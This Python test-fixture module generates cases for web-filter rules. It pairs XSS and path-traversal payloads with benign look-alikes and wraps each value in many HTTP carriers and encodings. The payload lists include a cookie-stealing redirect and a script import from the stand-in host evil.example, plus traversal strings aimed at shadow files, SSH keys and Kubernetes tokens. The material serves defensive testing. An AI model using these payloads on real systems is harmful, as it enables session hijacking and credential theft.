"""XSS and path traversal in every carrier a client can use, and the benign look-alikes (issue 15).

Written for this repository from the grammar of each class (what a browser runs, what a file API
opens), not copied from a corpus. Each payload is sent the ways ``carriers`` lists: a query
argument (once and twice URL-encoded), a path segment (encoded, double-encoded, with ``;``
matrix parameters, as a matrix value), a custom header, a cookie, a form field, a multipart field,
a JSON member, a whole JSON body (a bare string, nested in arrays, ``\\u``-escaped, mixed with
non-ASCII text), and wrapped in base64 (standard, unpadded, URL-safe) in the query, the path, a
cookie, a header, a form field, a multipart field and a JSON member.

``tests/rules/test_web_sets.py`` requires every attack case blocked and no benign case blocked.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

# Event-handler and attribute contexts (quoted, unquoted, no tag at all), script URLs, and sinks
# called without their name followed by "(".
XSS: tuple[str, ...] = (
    '" onpointerenter="prompt(7)',
    "' autofocus onfocusin='confirm(7)' x='",
    '"/onmouseleave=alert(7)//',
    "x onanimationend=alert(7) style=animation:y",
    '" tabindex=0 onfocus=eval(name) autofocus x="',
    "\" onclick=\"location.href='//evil.example/'+document.cookie",
    '" href="javascript:confirm(7)',
    "' srcdoc='<svg onload=alert(7)>",
    '"><svg onload=prompt(7)>',
    "<img src=q onerror=confirm(7)>",
    "<custom-card tabindex=1 onfocus=alert(7) autofocus>",
    "<svg><animate onbegin=prompt(7) attributeName=x dur=2s>",
    "<details open ontoggle=confirm(7)>",
    "<a href=&#x6a;avascript:alert(7)>go</a>",
    '<a href="jav&#x09;ascript:prompt(7)">go</a>',
    "javascript:/**/confirm(7)",
    "JaVaScRiPt:window.onerror=alert;throw 7",
    "</textarea><img src=q onerror=alert(7)>",
    "';prompt(7);//",
    '"-confirm(7)-"',
    "(confirm)(7)",
    "(0,eval)('ale'+'rt(7)')",
    "alert?.(7)",
    "prompt.call(null,7)",
    "confirm.apply(this,[7])",
    "[7].forEach(alert)",
    "Reflect.apply(confirm,window,[7])",
    "onerror=prompt;throw 7",
    "this['confirm'](7)",
    "import('//evil.example/x.mjs')",
    "opener.location='//evil.example/phish'",
    "o<i>nmouseover=alert(7)",
    "prompt<b>(7)",
)

TRAVERSAL: tuple[str, ...] = (
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\system.ini",
    "....//....//....//etc/shadow",
    "..%2f..%2f..%2fetc%2fhosts",
    "%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
    "..%c0%af..%c0%afetc/group",
    "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afshadow",
    "/srv/app/static/../../../etc/passwd",
    "/etc/./passwd",
    "/etc//shadow",
    "/./proc/./self/./cmdline",
    "C:\\Windows\\win.ini",
    "\\\\::1\\c$\\windows\\win.ini",
    "\\\\[::1]\\admin$\\system32",
    "\\\\203.0.113.7\\share\\x.dll",
    "file:///etc/passwd",
    "..;/..;/WEB-INF/web.xml",
    "/.git/config",
    "../../.env",
    "/srv/app/.env",
    "/var/www/html/wp-config.php",
    "../config/database.yml",
    "/proc/self/fd/3",
    "/etc/machine-id",
    "/root/.ssh/id_ed25519",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
)

# What real users type into the same carriers: markdown, HTML-ish prose, code, URLs with query
# strings inside values, file paths in documentation, non-English text.
BENIGN: tuple[str, ...] = (
    "## Setup\n\n1. Run `make build`\n2. Open the [guide](https://docs.example.com/start?lang=en#install)",
    "**Note:** _values_ over 100 are clamped; see ![chart](img/chart.png)",
    '<p>Thanks, <b>Ann</b>! See <a href="https://example.com/order?id=7&ref=mail">your order</a>.</p>',
    "Wrap it in <code>&lt;div&gt;</code> and add <br> between lines.",
    '<p><span style="color: rgb(34, 34, 34); font-weight: bold">Sale</span> ends <em>Friday</em></p>',
    "if (count < limit && !done) { next(); }",
    "items.filter(x => x.active).map(x => x.id)",
    "return <button onClick={() => setOpen(!open)}>Menu</button>;",
    "def on_change(self, value): return value.strip()",
    "import os\nprint(os.path.join(base, 'assets', 'logo.png'))",
    "queue.put(alert) if alert.level > 2 else None",
    "https://shop.example.com/search?q=linen+shirt&size=M&sort=price_asc",
    "return_to=https://app.example.com/settings?tab=billing&step=2",
    "Edit config/app.yaml, then restart; logs are in the logs/ folder",
    "On Windows the settings live in C:\\Program Files\\Example\\ (one file)",
    "See docs/../README.md for the overview",
    "Severity (alert) (notice) (info)",
    "Step 1 --> Step 2 --> done",
    "Please confirm (yes/no) before we ship",
    "Привет! Заказ №42 отправлен сегодня.",
    "注文番号 42 は本日発送されました。ありがとうございます！",
    "تم شحن طلبك رقم 42 اليوم",
    "आपका ऑर्डर 42 आज भेजा गया",
    "Great service 👍🎉 will order again <3",
    'Mr. O\'Neil said "on time" and left; onboarding is next week',
    "The onload event fires after images load",
)


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _http(method: str, uri: str, headers: list[list[str]], body: str = "") -> dict[str, Any]:
    base = [
        ["Host", "shop.example"],
        ["User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"],
        *headers,
    ]
    return {
        "placement": "HTTP",
        "request": {"method": method, "uri": uri, "version": "HTTP/1.1", "headers": base, "body": body},
    }


_FORM = [["Content-Type", "application/x-www-form-urlencoded"]]
_JSON = [["Content-Type", "application/json"]]
_MULTIPART = [["Content-Type", "multipart/form-data; boundary=x7b"]]


def _multipart(value: str) -> str:
    return f'--x7b\r\nContent-Disposition: form-data; name="comment"\r\n\r\n{value}\r\n--x7b--\r\n'


def _json_escaped(text: str) -> str:
    return "".join(f"\\u{ord(ch):04x}" if ord(ch) < 0x10000 else json.dumps(ch)[1:-1] for ch in text)


def carriers(value: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """(shape, corpus-case fields) for each way ``value`` reaches an application."""
    enc = quote(value, safe="")
    yield "query", _http("GET", "/search?q=" + enc, [])
    yield "query-2x", _http("GET", "/search?q=" + quote(enc, safe=""), [])
    if "\n" not in value:  # a line break in a path or a cookie is never legitimate (protocol group)
        yield "path", _http("GET", "/files/" + enc, [])
        yield "path-2x", _http("GET", "/files/" + quote(enc, safe=""), [])
        yield "path-matrix", _http("GET", "/files/" + enc + ";jsessionid=0A1B/view", [])
        yield "matrix-value", _http("GET", "/files/doc;name=" + enc + "/view", [])
        yield "cookie", _http("GET", "/", [["Cookie", "sid=7f3a; last=" + enc]])
        if value.isascii():
            yield "header", _http("GET", "/", [["X-Original-Path", value]])
    yield "form", _http("POST", "/comment", _FORM, "post=7&text=" + enc)
    yield "multipart", _http("POST", "/upload", _MULTIPART, _multipart(value))
    yield "json-member", _http("POST", "/api/items", _JSON, json.dumps({"id": 7, "note": value}))
    yield "json-string", _http("POST", "/api/items", _JSON, json.dumps(value))
    yield "json-nested", _http("POST", "/api/items", _JSON, json.dumps([[{"tags": [1, value]}]]))
    yield "json-escaped", _http("POST", "/api/items", _JSON, '{"note": "' + _json_escaped(value) + '"}')
    yield (
        "json-unicode",
        _http("POST", "/api/items", _JSON, json.dumps({"名前": "テスト", "note": value}, ensure_ascii=False)),
    )
    for kind, token in (
        ("b64", _b64(value)),
        ("b64-flat", _b64(value).rstrip("=")),
        ("b64-url", base64.urlsafe_b64encode(value.encode()).decode().rstrip("=")),
    ):
        wire = quote(token, safe="")
        yield f"{kind}-query", _http("GET", "/search?data=" + wire, [])
        yield f"{kind}-path", _http("GET", "/files/" + wire, [])
        if "\n" not in value:  # a header carries one line of text, encoded or not
            yield f"{kind}-cookie", _http("GET", "/", [["Cookie", "sid=7f3a; state=" + token]])
            yield f"{kind}-header", _http("GET", "/", [["X-Payload", token]])
        yield f"{kind}-form", _http("POST", "/comment", _FORM, "data=" + wire)
        yield f"{kind}-multipart", _http("POST", "/upload", _MULTIPART, _multipart(token))
        yield f"{kind}-json", _http("POST", "/api/items", _JSON, json.dumps({"data": token}))


def web_cases(family: str, payloads: tuple[str, ...], expect: str) -> list[dict[str, Any]]:
    out = []
    for i, payload in enumerate(payloads):
        for shape, fields in carriers(payload):
            out.append(
                {
                    "id": f"own-web/{family}/{i}/{shape}",
                    "set": "own-web",
                    "category": family,
                    "family": family,
                    "expect": expect,
                    "shape": shape,
                    **fields,
                }
            )
    return out
